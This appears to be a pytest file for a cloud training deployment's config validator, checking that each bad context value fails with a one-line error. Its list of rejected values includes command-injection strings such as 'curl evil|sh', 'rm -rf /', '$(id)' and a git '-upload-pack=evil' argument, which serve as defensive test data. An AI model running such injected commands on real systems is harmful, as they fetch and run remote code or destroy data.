"""Config validation: every bad value fails with one line naming the key, the value and what is allowed."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from stacks.config import DEFAULTS, RunConfig, check_deploy, main, to_https
from training.errors import ConfigError

ROOT = Path(__file__).resolve().parents[2]
GOOD: dict[str, Any] = {"repoUrl": "https://git.example.com/team/spotgrade.git"}


def load(**overrides: Any) -> RunConfig:
    context = {**GOOD, **overrides}
    return RunConfig.from_context(context.get, repo_dir=None)


BAD_VALUES = [
    ("instanceTypes", ["g5.xlarge", "not a type"]),
    ("instanceTypes", "g5.xlarge;reboot"),
    ("instanceTypes", []),
    ("instanceTypes", "g5.xlarge,g5.xlarge"),
    ("maxRuntimeHours", -1),
    ("maxRuntimeHours", "0"),
    ("maxRuntimeHours", "eight"),
    ("maxRuntimeHours", 100),
    ("dataUri", "https://example.com/loans.csv"),
    ("dataUri", "s3://Bad_Bucket/loans.csv"),
    ("dataUri", "s3://bucket/$(reboot).csv"),
    ("repoUrl", "https://x/y.git;curl evil|sh"),
    ("repoUrl", "https://user:token@git.example.com/team/repo.git"),
    ("repoUrl", "http://git.example.com/team/repo.git"),
    ("repoUrl", "git@git.example.com:team/repo.git"),
    ("gitRef", "main; rm -rf /"),
    ("gitRef", "$(id)"),
    ("gitRef", "-upload-pack=evil"),
    ("gitRef", "feature/../../x"),
    ("trainArgs", "--epochs 3; curl evil | sh"),
    ("trainArgs", "--epochs `id`"),
    ("trainArgs", "--epochs $HOME"),
    ("trainArgs", "--output /tmp/x"),
    ("trainArgs", "--out=/tmp/x"),
    ("trainArgs", "--run-i other"),
    ("trainArgs", "positional"),
    ("trainArgs", "--epochs 'unbalanced"),
    ("capacity", "reserved"),
    ("maxSpotPrice", "-0.2"),
    ("maxSpotPrice", "cheap"),
    ("rootVolumeGiB", 20),
    ("rootVolumeGiB", "100.5"),
    ("runId", "run id with spaces"),
    ("runId", "-starts-with-dash"),
    ("amiParameter", "ami-0123456789abcdef0"),
    ("artifactBucket", "UPPER_case"),
    ("retainArtifacts", "maybe"),
    ("logRetentionDays", 10),
    ("checkpointExpiryDays", 0),
    ("stackName", "1-starts-with-digit"),
    ("notifyEmail", "me@example.com; rm -rf /"),
    ("notifyEmail", "not-an-address"),
    ("notifyEmail", "a@b"),
    ("notifyEmail", ["a@example.com"]),
    ("heartbeatMinutes", 4),
    ("heartbeatMinutes", 121),
    ("heartbeatMinutes", "7.5"),
    ("heartbeatMinutes", "often"),
]


@pytest.mark.parametrize(("key", "value"), BAD_VALUES, ids=[f"{k}={v!r}" for k, v in BAD_VALUES])
def test_bad_value_fails_with_one_line_naming_key(key: str, value: Any) -> None:
    with pytest.raises(ConfigError) as err:
        load(**{key: value})
    message = str(err.value)
    assert "\n" not in message
    assert message.startswith(f"context key '{key}': ")
    assert "expected" in message and f"-c {key}=" in message


def test_defaults_give_a_valid_config_and_match_cdk_json() -> None:
    config = load()
    assert config.instance_types == ("g4dn.xlarge", "g5.xlarge", "g6.xlarge")
    assert config.capacity == "spot" and config.max_spot_price is None
    assert config.data_uri == "" and config.data_location is None
    assert config.asg_name == "Spotgrade-default" and config.run_prefix == "runs/default/"
    context = json.loads((ROOT / "cdk.json").read_text())["context"]
    assert {k: context[k] for k in DEFAULTS} == DEFAULTS
    assert context["cli-telemetry"] is False


def test_cli_strings_are_parsed() -> None:
    config = load(instanceTypes='["g5.xlarge", "g6e.xlarge"]', maxSpotPrice="0.5", maxRuntimeHours="2.5",
                  rootVolumeGiB="200", retainArtifacts="false", logRetentionDays="90",
                  trainArgs="--epochs=5  --features reference", dataUri="s3://lc-data/raw/20*.csv.gz")
    assert config.instance_types == ("g5.xlarge", "g6e.xlarge")
    assert (config.max_spot_price, config.max_runtime_hours, config.root_volume_gib) == (0.5, 2.5, 200)
    assert config.retain_artifacts is False and config.log_retention_days == 90
    assert config.train_args == "--epochs=5 --features reference"
    assert config.data_location == ("lc-data", "raw/20")  # IAM prefix stops at the glob


def test_notification_and_heartbeat_settings() -> None:
    assert (load().notify_email, load().heartbeat_minutes) == (None, 15)
    config = load(notifyEmail="ml-team+runs@example.co.uk", heartbeatMinutes="30")
    assert (config.notify_email, config.heartbeat_minutes) == ("ml-team+runs@example.co.uk", 30)
    assert load(notifyEmail="  ").notify_email is None  # `-c notifyEmail=` means no email
    assert (load(heartbeatMinutes=5).heartbeat_minutes, load(heartbeatMinutes=120).heartbeat_minutes) == (5, 120)


def test_spot_price_refused_with_on_demand() -> None:
    with pytest.raises(ConfigError, match="maxSpotPrice.*capacity=on-demand"):
        load(capacity="on-demand", maxSpotPrice="0.4")


def test_checkpoint_expiry_must_outlast_the_run() -> None:
    with pytest.raises(ConfigError, match="checkpointExpiryDays"):
        load(maxRuntimeHours=72, checkpointExpiryDays=3)
    assert load(maxRuntimeHours=72, checkpointExpiryDays=4).checkpoint_expiry_days == 4


@pytest.mark.parametrize(("remote", "https"), [
    ("git@github.example:owner/repo.git", "https://github.example/owner/repo.git"),
    ("ssh://git@git.example.com:2222/owner/repo.git", "https://git.example.com/owner/repo.git"),
    ("https://user:secret@git.example.com/owner/repo.git", "https://git.example.com/owner/repo.git"),
    ("https://git.example.com:8443/owner/repo", "https://git.example.com:8443/owner/repo"),
    ("/srv/git/repo.git", None),
])
def test_remote_to_https(remote: str, https: str | None) -> None:
    assert to_https(remote) == https


def _git_repo(path: Path, origin: str | None) -> Path:
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    if origin:
        subprocess.run(["git", "-C", str(path), "remote", "add", "origin", origin], check=True)
    (path / "cdk.json").write_text((ROOT / "cdk.json").read_text())
    return path


def test_repo_url_defaults_to_origin_as_https(tmp_path: Path) -> None:
    repo = _git_repo(tmp_path, "git@git.example.com:team/spotgrade.git")
    config = RunConfig.from_context({}.get, repo_dir=repo)
    assert config.repo_url == "https://git.example.com/team/spotgrade.git"


def test_check_deploy_refuses_without_repo_url(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = _git_repo(tmp_path, None)
    with pytest.raises(ConfigError, match=r"no repoUrl.*-c repoUrl="):
        check_deploy([], repo_dir=repo)
    config = check_deploy(["--require-approval", "never", "-c", "repoUrl=https://h.example/o/r.git",
                           "--context=runId=r2"], repo_dir=repo)
    assert (config.repo_url, config.run_id) == ("https://h.example/o/r.git", "r2")
    with pytest.raises(ConfigError, match="gitRef"):
        check_deploy(["-c", "repoUrl=https://h.example/o/r.git", "-c", "gitRef=$(id)"], repo_dir=repo)


def test_check_deploy_cli_exit_status(tmp_path: Path) -> None:
    ok = subprocess.run([sys.executable, "-m", "stacks.config", "--check-deploy", "-c",
                         "repoUrl=https://h.example/o/r.git"], cwd=ROOT, capture_output=True, text=True)
    assert ok.returncode == 0, ok.stderr
    bad = subprocess.run([sys.executable, "-m", "stacks.config", "--check-deploy", "-c", "capacity=cheap"],
                         cwd=ROOT, capture_output=True, text=True)
    assert bad.returncode == 2
    assert bad.stderr.startswith("error: context key 'capacity'") and bad.stderr.count("\n") == 1
    assert main([]) == 2


def test_bad_value_fails_synth_through_the_app() -> None:
    from stacks.spotgrade_stack import build_app

    with pytest.raises(ConfigError, match="context key 'repoUrl'"):
        build_app({"repoUrl": "https://x/y.git;curl evil|sh"}, repo_dir=None)


def test_app_py_exits_2_with_one_line(tmp_path: Path) -> None:
    context = json.dumps({"instanceTypes": "p3.2xlarge,$(id)"})
    done = subprocess.run([sys.executable, "app.py"], cwd=ROOT, capture_output=True, text=True,
                          env={"PATH": "/usr/bin:/bin", "CDK_CONTEXT_JSON": context,
                               "CDK_OUTDIR": str(tmp_path), "JSII_SILENCE_WARNING_END_OF_LIFE_NODE_VERSION": "20"})
    assert done.returncode == 2
    assert done.stderr.startswith("error: context key 'instanceTypes': '$(id)' is not allowed; expected ")
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
